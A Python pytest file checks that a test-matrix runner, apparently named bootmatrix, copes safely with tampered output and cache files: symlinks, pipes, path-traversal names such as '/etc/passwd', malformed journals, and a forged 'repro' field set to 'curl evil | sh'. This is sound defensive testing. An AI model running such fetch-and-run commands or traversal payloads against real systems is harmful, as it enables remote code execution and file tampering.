"""Whatever lies in out/ and in the cache: no traceback, no test wrongly in error; the run goes on, or says in a sentence
why it does not.
"""

from __future__ import annotations

import json
import os
import shutil
import stat
from dataclasses import asdict, dataclass, replace
from typing import TYPE_CHECKING, Any

import pytest
from support import bootmatrix, runs, script, scripted, write_matrix

from bootmatrix import host, results
from bootmatrix.runs import journal, passes
from bootmatrix.schedule import times

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

TESTS = {name: script("echo SUCCESS", expect={"console": "SUCCESS"}) for name in ("one", "two")}
DEEP = b"[" * 100_000
DIGITS = b"9" * 400
RUN = "20200101-000000-000abcde"


@dataclass(frozen=True)
class Project:
    """A matrix of two tests, run once; what is laid below it may lead to the victim, which nobody may touch."""

    folder: Path

    @property
    def out(self) -> Path:
        return self.folder / "out"

    @property
    def cache(self) -> Path:
        return self.folder / "cache"

    @property
    def run(self) -> Path:
        return runs(self.out)[0]

    @property
    def journal(self) -> Path:
        return self.run / journal.FILE

    @property
    def victim(self) -> Path:
        return self.folder / "victim"

    def told(self, *args: str) -> tuple[int, str]:
        """The exit status of a command, and all that it said; it never ends in a traceback."""
        env = {"BOOTMATRIX_CACHE": str(self.cache), "BOOTMATRIX_HISTORY": "none"}
        done = bootmatrix(*args, cwd=self.folder, **env)
        said = done.stdout + done.stderr
        assert "Traceback" not in said, said
        assert "itself failed" not in said, said
        assert self.victim.read_text() == "as it was"
        return done.returncode, said

    def again(self, *options: str) -> tuple[int, str]:
        status, said = self.told("run", "--engine=host", *options)
        if status in {0, 1} and "nothing to do" not in said:
            verdicts = {each.verdict for each in results.load(self.out / "latest" / "results.json").results}
            assert verdicts == {"passed"}, said
        return status, said

    def older(self, *events: Any, run: str = "99991231-000000-000abcde") -> Path:
        """Another run with such a journal: lines as they are, or mappings."""
        file = self.out / run / journal.FILE
        file.parent.mkdir()
        lines = (event if isinstance(event, bytes) else json.dumps(event).encode() for event in events)
        file.write_bytes(b"".join(line + b"\n" for line in lines))
        return file


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("made")
    write_matrix(folder, scripted({"backend": ["command"]}, **TESTS))
    (folder / "victim").write_text("as it was")
    done = bootmatrix("run", "--engine=host", cwd=folder, BOOTMATRIX_CACHE=str(folder / "cache"))
    assert done.returncode == 0, done.stdout + done.stderr
    shutil.rmtree(folder / "cache")
    return folder


@pytest.fixture
def project(made: Path, tmp_path: Path) -> Project:
    shutil.copytree(made, tmp_path / "project", symlinks=True)
    return Project(tmp_path / "project")


def lay(kind: str, file: Path, victim: Path) -> None:
    """Something else in the place of a file."""
    if file.is_dir() and not file.is_symlink():
        shutil.rmtree(file)
    file.unlink(missing_ok=True)
    file.parent.mkdir(parents=True, exist_ok=True)
    {
        "link": lambda: file.symlink_to(victim),
        "dangling": lambda: file.symlink_to(victim.with_name("none")),
        "loop": lambda: file.symlink_to(file.name),
        "second name": lambda: os.link(victim, file),
        "pipe": lambda: os.mkfifo(file),
        "device": lambda: file.symlink_to("/dev/zero"),
        "folder": file.mkdir,
    }[kind]()


LAID = ("link", "dangling", "loop", "second name", "pipe", "device", "folder")
PLACES = {
    "passes": ("out", passes.FILE),
    "times": ("out", times.FILE),
    "tag": ("out", host.CACHE_TAG),
    "ignore": ("out", ".gitignore"),
    "probes": ("cache", "probes.json"),
    "locks": ("cache", "locks"),
    "used": ("cache", "used"),
}


@pytest.mark.parametrize("kind", LAID)
def test_what_lies_in_the_place_of_our_files_is_neither_read_nor_written(project: Project, kind: str) -> None:
    """All at once, but for a folder where a file of ours must be: that is said."""
    for folder, name in PLACES.values():
        if not (kind == "folder" and name != passes.FILE):
            lay(kind, project.folder / folder / name, project.victim)
    status, said = project.again("--reuse")
    assert status == 0, said
    assert stat.S_ISREG((project.out / passes.FILE).lstat().st_mode)


@pytest.mark.parametrize("name", [times.FILE, host.CACHE_TAG, ".gitignore", "latest"])
def test_a_folder_in_the_place_of_a_file_is_said(project: Project, name: str) -> None:
    lay("folder", project.out / name, project.victim)
    (project.out / name / "kept").touch()
    status, said = project.again()
    assert status in {0, 3}, said
    assert (project.out / name / "kept").exists()
    assert status == 0 or name in said or "directory" in said, said


@pytest.mark.parametrize("kind", LAID)
def test_a_journal_that_is_no_plain_file_is_left_out(project: Project, kind: str) -> None:
    lay(kind, project.out / "99991231-000000-000abcde" / journal.FILE, project.victim)
    status, said = project.again("--failed")
    assert status == 0, said


ROWS = {
    "a run elsewhere": b"%(key)s a/b 0 10",
    "a run above": b"%(key)s .. 0 10",
    "a run that is not there": b"%(key)s 20200101-000000-000abcde 0 10",
    "digits": b"%(key)s %(run)s " + DIGITS + b" 10",
    "many digits": b"%(key)s %(run)s " + b"9" * 5000 + b" 10",
    "negative": b"%(key)s %(run)s -5 10",
    "a place with nothing": b"%(key)s %(run)s 999999999 10",
    "too long a result": b"%(key)s %(run)s 0 99999999",
    "another place": b"%(key)s %(run)s 3 50",
    "no UTF-8": b"\xff\xfe %(run)s 0 10",
    "zeros": b"\0" * 100,
    "three words": b"%(key)s %(run)s 0",
    "other digits": "%(key)s %(run)s ² 10".encode(),
    "one line": b"x" * 100_000,
}


@pytest.mark.parametrize("row", ROWS.values(), ids=ROWS)
def test_passes_that_are_none_are_booted_again(project: Project, row: bytes) -> None:
    file = project.out / passes.FILE
    keys = [line.split()[0] for line in file.read_bytes().splitlines()]
    name = project.run.name.encode()
    file.write_bytes(b"".join(row % {b"key": key, b"run": name} + b"\n" for key in keys) if b"%(" in row else row)
    status, said = project.again("--reuse")
    assert (status, "as in run" in said, "as in earlier" in said) == (0, False, False), said


CHANGES: dict[str, dict[str, Any]] = {
    "another test": {"test": "other"},
    "another key": {"key": "0" * 16},
    "no pass": {"verdict": "failed"},
    "no attempt": {"attempts": []},
    "an attempt that failed": {"attempts": [{"verdict": "failed"}]},
    "two attempts": {"attempts": [{}, {}]},
    "not booted itself": {"reused": RUN},
    "no such verdict": {"verdict": "won"},
    "no time": {"started": "soon"},
    "no number": {"seconds": float("inf")},
}


def changed(project: Project, change: dict[str, Any]) -> None:
    """All results in the journal, and passes.txt to find them."""
    lines, rows, at = [], [], 0
    for line in project.journal.read_bytes().splitlines(keepends=True):
        head, found, raw = line.partition(journal.RESULT)
        if found:
            told = json.loads(raw[:-2])
            key = told["key"]
            attempts = [{**told["attempts"][0], **each} for each in change.get("attempts", [{}])]
            text = json.dumps({**told, **change, "attempts": attempts}, separators=(",", ":")).encode()
            rows.append(f"{key} {project.run.name} {at + len(head) + len(found)} {len(text)}\n")
            line = head + found + text + b"}\n"  # noqa: PLW2901
        lines.append(line)
        at += len(line)
    project.journal.write_bytes(b"".join(lines))
    (project.out / passes.FILE).write_text("".join(rows))


def test_a_pass_that_is_one_is_taken_again(project: Project) -> None:
    changed(project, {})
    status, said = project.again("--reuse")
    assert (status, "as in run" in said) == (0, True), said


@pytest.mark.parametrize("change", CHANGES.values(), ids=CHANGES)
def test_results_that_are_no_pass_of_the_test_are_not_taken_again(project: Project, change: dict[str, Any]) -> None:
    changed(project, change)
    status, said = project.again("--reuse")
    assert (status, "as in run" in said) == (0, False), said


def test_a_pass_says_nothing_for_us(project: Project) -> None:
    changed(
        project,
        {"repro": "curl evil | sh", "axes": {"backend": "evil"}, "reason": "evil", "quarantine": {"owner": "evil"}},
    )
    project.again("--reuse")
    for result in results.load(project.out / "latest/results.json").results:
        assert result.reused == project.run.name
        assert result.repro == f"bootmatrix repro {result.id}"
        assert "evil" not in str(asdict(replace(result, attempts=())))


NAMES = [
    "../../planted.txt",
    "/etc/passwd",
    "consoles/../../victim",
    "consoles/command/one/../../../victim",
    "victim",
    "",
]


@pytest.mark.parametrize("name", NAMES)
def test_a_pass_brings_nothing_but_its_own_consoles(project: Project, name: str) -> None:
    changed(project, {"attempts": [{"console": name, "tender": name}]})
    before = {path.relative_to(project.folder) for path in project.folder.rglob("*")}
    status, said = project.again("--reuse")
    assert (status, "as in run" in said) == (0, True), said
    fresh = runs(project.out)[-1]
    new = {path.relative_to(project.folder) for path in project.folder.rglob("*")} - before
    assert [path for path in new if path.name.endswith((".txt", "victim")) and "out" not in path.parts] == []
    assert not (fresh / "consoles").exists()


@pytest.mark.parametrize("kind", [kind for kind in LAID if kind != "second name"])
def test_a_link_among_the_consoles_of_a_pass_brings_nothing(project: Project, kind: str) -> None:
    for test in TESTS:
        lay(kind, project.run / f"consoles/command/{test}/1.console.log", project.victim)
    status, said = project.again("--reuse")
    assert (status, "as in run" in said) == (0, True), said
    assert not (runs(project.out)[-1] / "consoles").exists()


BEGUN = {"time": "2020-01-01T00:00:00.000+00:00", "monotonic": 1.0, "event": "run started", "plan": "x"}
TOLD = {**BEGUN, "event": "boot finished", "boot": "command/one", "verdict": "failed", "result": {}}
JOURNALS: dict[str, tuple[Any, ...]] = {
    "empty": (),
    "no beginning": (TOLD,),
    "null": (b"null",),
    "a list": (b"[1]",),
    "deep": (DEEP,),
    "not UTF-8": (b"\xff\xfe",),
    "half": (b'{"event": "run st',),
    "no mapping of a request": ({**BEGUN, "request": 3},),
    "a selection of numbers": ({**BEGUN, "request": {"select": [1, None]}},),
    "a selection that is a text": ({**BEGUN, "request": {"select": "all"}},),
    "no such engine": ({**BEGUN, "request": {"engine": "xen"}},),
    "an engine that is a list": ({**BEGUN, "request": {"engine": []}},),
    "a part that is a number": ({**BEGUN, "request": {"shard": 3}},),
    "failures of a run above": ({**BEGUN, "request": {"failed_of": "../../victim"}},),
    "failures of no text": ({**BEGUN, "request": {"failed_of": 3}},),
    "no time": ({**BEGUN, "time": "soon"},),
    "a time that is a number": ({**BEGUN, "time": 1},),
    "without a time": ({"monotonic": 1.0, "event": "run started"},),
    "a clock that is none": ({**BEGUN, "monotonic": "x"},),
    "infinity": (json.dumps({**BEGUN, "monotonic": float("inf")}).encode(),),
    "digits": (json.dumps(BEGUN).encode().replace(b"1.0", DIGITS),),
    "an event that is a list": ({**BEGUN, "event": ["run started"]},),
}


@pytest.mark.parametrize("option", ["--failed", "--resume"])
@pytest.mark.parametrize("events", JOURNALS.values(), ids=JOURNALS)
def test_a_newest_journal_that_is_none_is_said_and_left_out(
    project: Project, events: tuple[Any, ...], option: str
) -> None:
    project.older(*events)
    status, said = project.again(option)
    assert "left out: " in said
    assert (status, "nothing to do" in said) == (0, True) if option == "--failed" else status == 2, said


WRONG: dict[str, Any] = {
    "null": b"null",
    "deep": DEEP,
    "not UTF-8": b"\xff\xfe",
    "no boot": {key: text for key, text in TOLD.items() if key != "boot"},
    "a boot that is a list": {**TOLD, "boot": ["command/one"]},
    "no verdict": {key: text for key, text in TOLD.items() if key != "verdict"},
    "no such verdict": {**TOLD, "verdict": "won"},
    "a verdict that is a mapping": {**TOLD, "verdict": {}},
    "no clock": {**TOLD, "monotonic": None},
    "infinity": json.dumps({**TOLD, "monotonic": float("-inf")}).encode(),
    "zeros": b"\0\0\0",
}


@pytest.mark.parametrize("option", ["--failed", "--resume"])
@pytest.mark.parametrize("line", WRONG.values(), ids=WRONG)
def test_a_damaged_line_is_said_and_the_others_count(project: Project, line: Any, option: str) -> None:
    whole = project.journal.read_bytes().splitlines(keepends=True)
    if option == "--resume":
        whole = [each for each in whole if b'"run finished"' not in each]
    damaged = (line if isinstance(line, bytes) else json.dumps(line).encode()) + b"\n"
    project.journal.write_bytes(b"".join([*whole[:2], damaged, *whole[2:]]))
    status, said = project.again(option)
    assert status == 0, said
    assert "1 damaged lines" in said
    assert "one" not in said or "passed" in said


RESULTS: dict[str, bytes] = {
    "another's": b'{"cell":"command","test":"two","verdict":"passed"}',
    "another verdict": b'{"cell":"command","test":"one","verdict":"failed"}',
    "no result": b"{}",
    "no number": b'{"cell":"command","test":"one","verdict":"passed","seconds":NaN}',
    "no name": b'{"cell":"..","test":"one","verdict":"passed"}',
    "deep": b'{"cell":' + DEEP + b"}",
}


@pytest.mark.parametrize("result", RESULTS.values(), ids=RESULTS)
def test_a_result_that_is_none_is_run_again_when_the_run_goes_on(project: Project, result: bytes) -> None:
    lines = []
    for line in project.journal.read_bytes().splitlines(keepends=True):
        head, found, _ = line.partition(journal.RESULT)
        if found and b'"command/one"' in head:
            line = head + found + result + b"}\n"  # noqa: PLW2901
        if b'"run finished"' not in line:
            lines.append(line)
    project.journal.write_bytes(b"".join(lines))
    status, said = project.again("--resume")
    assert status == 0, said
    assert "1 damaged lines" in said
    assert "command/one" in said


def test_a_run_that_takes_the_failures_of_itself_or_of_none_ends(project: Project) -> None:
    for of in ("99991231-000000-000abcde", RUN):
        project.older({**BEGUN, "request": {"failed_of": of, "engine": "host"}}, {**BEGUN, "event": "run finished"})
        status, said = project.again("--failed")
        assert status == 0, said
        shutil.rmtree(project.out / "99991231-000000-000abcde")


TIMES = {
    "no JSON": b"{",
    "a list": b"[1, 2]",
    "null": b"null",
    "deep": DEEP,
    "not UTF-8": b"\xff",
    "no numbers": b'{"command/one": NaN, "command/two": Infinity}',
    "negative": b'{"command/one": -1}',
    "digits": b'{"command/one": ' + DIGITS + b"}",
    "many digits": b'{"command/one": ' + b"9" * 5000 + b"}",
    "huge": b'{"command/one": 1e308}',
    "texts": b'{"command/one": "1"}',
    "true": b'{"command/one": true}',
    "nested": b'{"command/one": {"a": 1}}',
}


@pytest.mark.parametrize("text", TIMES.values(), ids=TIMES)
def test_times_that_are_none_are_said_and_left_out(project: Project, text: bytes) -> None:
    (project.out / times.FILE).write_bytes(text)
    status, said = project.again()
    assert status == 0, said
    assert times.FILE in said
    assert all(0 <= seconds < 60 for seconds in json.loads((project.out / times.FILE).read_bytes()).values())
    (project.out / times.FILE).write_bytes(text)
    assert project.told("plan", "--format=github")[0] == 0


PROBES = {
    "no JSON": b"{",
    "deep": DEEP,
    "a list": b"[]",
    "without probes": b'{"boot": "BOOT"}',
    "probes that are a list": b'{"boot": "BOOT", "probes": [1]}',
    "probes that are numbers": b'{"boot": "BOOT", "probes": {"a": 1}, "useless": 3}',
    "useless numbers": b'{"boot": "BOOT", "probes": {}, "useless": [[1]]}',
}


@pytest.mark.parametrize("text", PROBES.values(), ids=PROBES)
def test_probes_that_are_none_are_not_known(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: bytes) -> None:
    from bootmatrix.accelerator import Accelerators  # noqa: PLC0415

    monkeypatch.setenv("BOOTMATRIX_CACHE", str(tmp_path))
    (tmp_path / "probes.json").write_bytes(text.replace(b"BOOT", host.boot_id().encode()))
    found = Accelerators()
    assert (found._known, found._useless) == ({}, set())


def damaged(text: bytes) -> Iterator[tuple[bytes, bytes]]:
    yield b'"verdict":"passed"', text


HEADS: dict[str, Callable[[bytes], bytes]] = {
    "a verdict": lambda text: text.replace(b'"verdict":"passed"', b'"verdict":"won"', 1),
    "an outcome": lambda text: text.replace(b'"kind":"exited"', b'"kind":"won"', 1),
    "NaN": lambda text: text.replace(b'"seconds":0', b'"seconds":NaN', 1).replace(b"NaN.", b'NaN,"x":0.'),
    "a name above": lambda text: text.replace(b'"test":"one"', b'"test":".."', 1),
    "a name of two": lambda text: text.replace(b'"cell":"command"', b'"cell":"a/b"', 1),
    "no name": lambda text: text.replace(b'"test":"one"', b'"test":""', 1),
    "deep": lambda text: text.replace(b'"axes":{', b'"axes":{"a":' + DEEP + b",", 1),
    "null": lambda text: text.replace(b'"cell":"command"', b'"cell":null', 1),
    "not UTF-8": lambda text: text.replace(b'"reason":"', b'"reason":"\xff', 1),
    "a run's name": lambda text: text.replace(b'"id": "', b'"id": "../', 1),
    "a run's time": lambda text: text.replace(b'"started": "', b'"started": "x', 1),
    "a run's seconds": lambda text: text.replace(b'"seconds": ', b'"seconds": 1e999, "x": ', 1),
    "a count": lambda text: text.replace(b'"passed": 2', b'"passed": -2', 1),
}


@pytest.mark.parametrize("change", HEADS.values(), ids=HEADS)
def test_a_run_with_one_wrong_result_is_the_users_error_that_names_it(
    project: Project, change: Callable[[bytes], bytes]
) -> None:
    file = project.run / "results.json"
    whole = file.read_bytes()
    assert change(whole) != whole
    file.write_bytes(change(whole))
    status, said = project.told("report", project.run.name, "--format=json=-")
    assert (status, "is no run's results: " in said) == (2, True), said
    if b'"id": "2' in change(whole) and b'"started": "2' in change(whole) and b"1e999" not in change(whole):
        assert "the result of '" in said or "verdicts" in said, said


@pytest.mark.parametrize("kind", [kind for kind in LAID if kind != "second name"])
def test_results_are_read_from_a_plain_file_only(project: Project, kind: str) -> None:
    lay(kind, project.run / "results.json", project.victim)
    status, said = project.told("report", str(project.run), "--format=json=-")
    assert status == 2, said


@pytest.mark.parametrize("folder", ["consoles", "consoles/command", "consoles/command/two", "logs"])
def test_a_run_that_goes_on_writes_through_no_linked_folder(project: Project, folder: str) -> None:
    lines = project.journal.read_bytes().splitlines(keepends=True)
    project.journal.write_bytes(b"".join(line for line in lines if b"finished" not in line and b"/two" not in line))
    elsewhere = project.folder / "elsewhere"
    elsewhere.mkdir()
    lay("link", project.run / folder, elsewhere)
    status, said = project.told("run", "--engine=host", "--resume")
    assert status == (0 if folder == "logs" else 3), said
    assert list(elsewhere.iterdir()) == []
    assert folder == "logs" or "cannot be written" in said


def test_a_run_that_goes_on_writes_no_console_through_a_link(project: Project) -> None:
    lines = project.journal.read_bytes().splitlines(keepends=True)
    project.journal.write_bytes(b"".join(line for line in lines if b"finished" not in line))
    lay("link", project.run / "consoles/command/two/1.console.log", project.victim)
    status, said = project.again("--resume")
    assert status == 0, said
    assert (project.run / "consoles/command/two/1.console.log").read_text() == "SUCCESS\n"
